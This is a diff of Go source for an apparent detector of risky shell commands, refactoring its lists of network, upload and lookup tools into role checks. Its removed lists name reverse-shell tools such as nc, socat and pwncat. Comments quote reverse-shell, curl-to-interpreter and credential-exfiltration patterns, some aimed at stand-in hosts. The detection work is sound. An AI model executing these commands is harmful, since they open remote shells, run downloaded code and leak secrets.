@@ -34,28 +34,15 @@ import (
 
 // fetches reports whether c downloads what a URL names: a downloader
 // (roleDownloads),
-// one of PowerShell's web cmdlets (psUploaders), or a command whose spec
+// one of PowerShell's web cmdlets (roleWebCmdlet), or a command whose spec
 // names the file it downloads into (fetchSpec: Start-BitsTransfer
 // -Destination).
 func fetches(c *Command) bool {
-	if does(c, c.Name, roleDownloads) || c.in(nsPsUploaders, c.Name) {
+	if does(c, c.Name, roleDownloads) || does(c, c.Name, roleWebCmdlet) {
 		return true
 	}
 	s, _ := fetchSpec(c)
 	return s != nil && len(s.extra().writesOpts) > 0
-}
-
-// netTools open raw network connections.
-var netTools = set{
-	"cryptcat", "nc", "nc.openbsd", "nc.traditional", "ncat", "netcat", "openssl", "pwncat", "pwncat-cs",
-	"rcat", "socat", "telnet",
-}
-
-// textOnly are commands whose arguments are only shown or searched, never
-// opened as files.
-var textOnly = set{
-	"ack", "ag", "apropos", "echo", "egrep", "fgrep", "git", "grep", "info", "man", "printf", "rg",
-	"whatis",
 }
 
 // devTCP builds a net.dev-tcp finding.
@@ -192,11 +179,8 @@ func remoteProgram(c *Command) bool {
 		return false
 	}
 	inner := strings.TrimSuffix(strings.ToLower(c.Wrappers[len(c.Wrappers)-1]), ".exe")
-	return !urlOpeners.has(inner)
+	return !nameDoes(inner, roleOpensURL)
 }
-
-// urlOpeners open what they are given with its default handler.
-var urlOpeners = set{"explorer", "gio", "ii", "invoke-item", "open", "saps", "sensible-browser", "start", "start-process", "wslview", "www-browser", "xdg-open"}
 
 // devNetOf reports whether c opens /dev/tcp or /dev/udp.
 func devNetOf(c *Command) bool {
@@ -211,7 +195,7 @@ func devNetOf(c *Command) bool {
 	if c.Name == "ztcp" || c.Name == "zmodload" && contains(c.Values(), "zsh/net/tcp") {
 		return true
 	}
-	if c.in(nsTextOnly, c.Name) || c.Name == "eval" {
+	if does(c, c.Name, roleTextOnly) || c.Name == "eval" {
 		return false // eval's string is analysed on its own
 	}
 	var code *Word
@@ -220,7 +204,7 @@ func devNetOf(c *Command) bool {
 	}
 	// An interpreter's or awk's code may build the redirection from
 	// parts ("bash -i >& " + "/dev/tcp/…"): any mention there counts.
-	coded := isShell(c, c.Name) || c.in(nsProgFromWord, c.Name)
+	coded := isShell(c, c.Name) || does(c, c.Name, roleProgWord)
 	for i, a := range c.Args {
 		if isDevNet(a.Value) && (code == nil || &c.Args[i] != code) && (coded || devNetOpened.get().MatchString(a.Value)) {
 			return true
@@ -249,10 +233,6 @@ func isShell(c *Command, name string) bool {
 	}
 	return foreignShells.has(name) || interpLang(name) != "" || startsShell(c, name)
 }
-
-// progFromWord are the programs whose program is a word of their command
-// line and may run shell commands: awk's system() and pipes, sed's e.
-var progFromWord = set{"awk", "gawk", "gsed", "mawk", "nawk", "sed"}
 
 // programText returns the words of c, awk or sed, that are its program
 // or name its program's file: programWords' program and the values of
@@ -370,7 +350,7 @@ func isNetName(name string, args []Word) bool {
 	if name == "openssl" {
 		return len(args) > 0 && args[0].Value == "s_client"
 	}
-	return netTools.has(name)
+	return nameDoes(name, roleRawNet)
 }
 
 // inner returns the name and arguments of the command behind c's
@@ -643,7 +623,7 @@ func pipeShellOf(ctx *Context, c *Command) string {
 			return "pipes the output of " + f.Name + " to " + c.Name + " as its instructions"
 		}
 	}
-	if c.in(nsProgFromWord, c.Name) {
+	if does(c, c.Name, roleProgWord) {
 		// awk "$(curl …)", sed -e "$(wget -qO- …)", gawk -f <(curl …):
 		// a program that is the download as a whole (awk's system() and
 		// sed's e command run shell commands). A download spliced into a
@@ -671,7 +651,7 @@ func pipeShellOf(ctx *Context, c *Command) string {
 			}
 		}
 	}
-	if c.in(nsStdinRunners, c.Name) || jobFromStdin(c) {
+	if does(c, c.Name, roleStdinLater) || jobFromStdin(c) {
 		// at and batch run the shell code on their standard input, as a
 		// batch scheduler given no job script does.
 		if f := downloads.first(c.Feeds, c); f != nil {
@@ -907,15 +887,6 @@ func envSettings(c *Command) []string {
 // Resolve-DnsName ('{0}.x' -f …($env:API_KEY)), curl https://$KEY.x/):
 // no service takes a credential in its host name.
 
-// sendsFiles are the HTTP clients whose upload options readOperands reads.
-var sendsFiles = set{"curl", "curlie", "http", "https", "wget", "wget2", "xh", "xhs"}
-
-// psUploaders are PowerShell's HTTP cmdlets, whose -InFile is sent.
-var psUploaders = set{"invoke-restmethod", "invoke-webrequest", "irm", "iwr"}
-
-// lookups resolve or reach the name they are given.
-var lookups = set{"dig", "drill", "getent", "host", "nslookup", "ping", "ping6", "resolve-dnsname", "resolvectl", "test-connection", "tracepath", "traceroute"}
-
 // userLabel matches a variable naming the user who runs the command
 // spelled into a name before a domain ($USER.x.example,
 // %USERNAME%.x.example, $env:USERNAME.x.example): a user is no host, so
@@ -978,7 +949,7 @@ var exfilDatabase = &lazyRegexp{expr: `(?i)\.(sqlite3?|db|sql|dump|mdb|accdb|bso
 // to send, or nil.
 func exfilOf(ctx *Context, c *Command) *Finding {
 	name := lowerNameNoExe(c)
-	if c.in(nsLookups, name) {
+	if does(c, name, roleLooksUp) {
 		for _, a := range c.Args {
 			for _, sc := range a.Subst {
 				if localData.hasLower(sc.Name) && substLabel.get().MatchString(c.Text) {
@@ -1009,7 +980,7 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 	for _, a := range c.Args {
 		// curl "https://$API_KEY.x.example/": an HTTP client looks the
 		// URL's host up before it connects.
-		if !c.in(nsSendsFiles, name) && !c.in(nsPsUploaders, name) {
+		if !does(c, name, roleUploads) && !does(c, name, roleWebCmdlet) {
 			break
 		}
 		if u, ok := readURL(a.Value); ok && !a.Literal && u.host != "" {
@@ -1027,7 +998,7 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 	// scp's is.
 	bare := false
 	switch {
-	case c.in(nsSendsFiles, name):
+	case does(c, name, roleUploads):
 		bare = slices.ContainsFunc(c.Args, func(w Word) bool { return bareAddressOf(w.Value) != "" })
 		for _, p := range readOperands(c) {
 			if p == "-" {
@@ -1121,7 +1092,7 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 		if ops := operands(c.Values()); len(ops) > 2 {
 			sent = ops[2:]
 		}
-	case c.in(nsNetTools, name) && name != "openssl" || name == "openssl" && c.Arg(0) == "s_client":
+	case does(c, name, roleRawNet) && name != "openssl" || name == "openssl" && c.Arg(0) == "s_client":
 		// nc HOST PORT < F, cat F | nc HOST PORT: what it reads goes out.
 		sent = fedFiles(ctx, c)
 		for _, r := range c.Redirs {
@@ -1132,7 +1103,7 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 		if f := rawUpload(c); f != nil {
 			return f
 		}
-	case c.in(nsPsUploaders, name):
+	case does(c, name, roleWebCmdlet):
 		p := parseArgs(&psWebAuthSpec, c.Args)
 		sent = p.values("-InFile")
 		bare = slices.ContainsFunc(c.Args, func(w Word) bool { return bareAddressOf(w.Value) != "" })
@@ -1153,7 +1124,7 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 			}
 		}
 	default:
-		if c.in(nsUncCopiers, name) {
+		if does(c, name, roleUncCopies) {
 			return nil // cp F sftp://h/p copies into a local folder named so
 		}
 		sent = bucketSources(c)
@@ -1269,7 +1240,7 @@ func literalPrinter(c *Command) bool {
 	if c.grouped {
 		return !slices.ContainsFunc(c.Feeds, func(f *Command) bool { return !literalPrinter(f) })
 	}
-	if !c.in(nsPrinters, c.Name) && c.Name != "write-output" || c.Dynamic || len(c.Feeds) > 0 || len(c.Redirs) > 0 {
+	if !does(c, c.Name, rolePrintsWords) && c.Name != "write-output" || c.Dynamic || len(c.Feeds) > 0 || len(c.Redirs) > 0 {
 		return false
 	}
 	return !slices.ContainsFunc(c.Args, func(a Word) bool { return !a.Literal })
@@ -1289,7 +1260,7 @@ func fedFiles(ctx *Context, c *Command) []string {
 	for _, f := range c.Feeds {
 		if src, ok := archivesProject(ctx, f); ok {
 			out = append(out, src)
-		} else if readers.has(f.Name) && !sendsFiles.has(f.Name) {
+		} else if readers.has(f.Name) && !does(f, f.Name, roleUploads) {
 			out = append(out, readOperands(f)...)
 		}
 	}
